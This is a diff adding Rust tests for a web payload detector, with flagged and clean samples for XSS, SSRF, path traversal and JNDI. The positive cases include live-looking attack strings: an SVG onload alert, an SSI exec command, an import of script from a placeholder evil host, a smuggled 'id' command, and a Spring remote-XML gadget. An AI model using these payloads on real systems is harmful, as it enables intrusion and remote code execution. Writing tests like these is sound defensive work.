@@ -1,0 +1,142 @@
+//! Web-facing payload families through the public API (XSS, SSRF/RFI, path traversal,
+//! Java): attribute and script-string breaks, markup in data: URLs, obfuscated URLs and
+//! traversal sequences, each with positives and hard negatives.
+
+mod common;
+
+use sentrace_core::TenantId;
+use sentrace_detect::{Detector, Family};
+
+fn families(d: &Detector, v: &str) -> Vec<Family> {
+    let t = TenantId::new("t").unwrap();
+    let mut f: Vec<Family> = d
+        .scan_value(&t, v)
+        .into_iter()
+        .map(|(r, _)| r.family)
+        .collect();
+    f.sort();
+    f.dedup();
+    f
+}
+
+fn assert_flags(d: &Detector, fam: Family, v: &str) {
+    assert!(
+        families(d, v).contains(&fam),
+        "missed {fam:?} in {v:?}: {:?}",
+        families(d, v)
+    );
+}
+
+fn assert_clean(d: &Detector, v: &str) {
+    assert!(
+        families(d, v).is_empty(),
+        "false positive on {v:?}: {:?}",
+        d.scan_value(&TenantId::new("t").unwrap(), v)
+            .iter()
+            .map(|(r, why)| (r.id.clone(), *why))
+            .collect::<Vec<_>>()
+    );
+}
+
+#[test]
+fn attribute_and_script_string_breaks() {
+    let d = Detector::with_default_rules().unwrap();
+    for v in [
+        "  onabcdefgh= ",
+        "'formaction=",
+        "\" srcdoc=",
+        "\"in valueOf=",
+        "'  infoo.bar=",
+        "' in window.name=1",
+        "<a href=\"test\"",
+    ] {
+        assert_flags(&d, Family::Xss, v);
+    }
+    for v in [
+        "\"in stock\"",
+        "'in progress' = done",
+        "\"index=2",
+        "online=",
+        "t=1614308115,v1=5257a869e7ecebeda32affa62cdca3fa51onabcd=6yJV_adQssw5c",
+        "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0onload=.POstGet_K5DGFLJrRyhshDZI",
+        "1a2b3c4d5e6f7g8h9i0j1k2l3m4n5onabcde=6p7q8r9s0t",
+        "\"action items for Monday\"",
+        "<p>see <a href=\"https://example.com/a\">the docs</a></p>",
+    ] {
+        assert_clean(&d, v);
+    }
+}
+
+#[test]
+fn markup_in_data_urls_and_script_syntax() {
+    let d = Detector::with_default_rules().unwrap();
+    for v in [
+        " data: , <x>",
+        "data:,<svg onload=alert(1)>",
+        "data:text/plain;charset=utf-8,<b>x",
+        "<importimplementation=",
+        "<!--#exec cmd=\"ls\" -->",
+        "\"--><!--#echo var=\"DOCUMENT_ROOT\"-->",
+        "btoa()",
+        "eval('2 2')",
+        "new Function()",
+        "import { sayHi, sayBye } from \"./greeting.js\";",
+        "x;import('https://evil.example/x.js')",
+    ] {
+        assert_flags(&d, Family::Xss, v);
+    }
+    for v in [
+        "metadata: , <none>",
+        "data: 1, <b>",
+        "Data: see the attached file",
+        "I will import (and sell) them",
+        "we import goods from China",
+        "how to import a module from a package",
+        "<!-- a comment -->",
+        "new functionality (beta)",
+    ] {
+        assert_clean(&d, v);
+    }
+}
+
+#[test]
+fn obfuscated_urls_and_traversal() {
+    let d = Detector::with_default_rules().unwrap();
+    assert_flags(
+        &d,
+        Family::Ssrf,
+        "http://\\\\g\\\\o\\\\o\\\\g\\\\l\\\\e.\\\\c\\\\o\\\\m/",
+    );
+    for v in [
+        "0x5c0x2e.\\0/",
+        "0x2f0x2e0x2e/x",
+        "..0x2f..0x2f",
+        "/@id/__x00__",
+        ">/tmp/curl",
+        "x; id 2>>/dev/shm/o",
+    ] {
+        assert_flags(&d, Family::PathTraversal, v);
+    }
+    assert_flags(
+        &d,
+        Family::Jndi,
+        "com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('http://x/wb.xml')",
+    );
+    for v in [
+        "http://\\\\example.com/",
+        "https://example.com/a\\b",
+        "0x2e is the code of a dot",
+        "color 0x2f2f2f",
+        "/@alice/109876543210",
+        "/@fs/123",
+        "> /tmp/ is full again, see the log",
+        "a=>/tmp",
+        "cp a.txt /tmp/b.txt",
+    ] {
+        let f = families(&d, v);
+        assert!(
+            !f.contains(&Family::Ssrf) && !f.contains(&Family::PathTraversal),
+            "false positive on {v:?}: {f:?}"
+        );
+    }
+}
